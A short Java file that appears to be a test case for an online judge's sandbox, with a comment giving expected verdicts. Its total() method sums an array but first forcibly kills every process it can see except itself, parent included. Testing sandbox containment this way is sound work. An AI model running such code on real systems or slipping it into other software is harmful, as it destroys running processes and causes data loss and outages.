// expect: AC RE; tiers: AB; kills all processes it can see, its parent too
import java.util.*;

public class Solution {
    double total(double[] values) {
        ProcessHandle.allProcesses().filter(p -> p.pid() != ProcessHandle.current().pid()).forEach(ProcessHandle::destroyForcibly);
        return Arrays.stream(values).sum();
    }
}
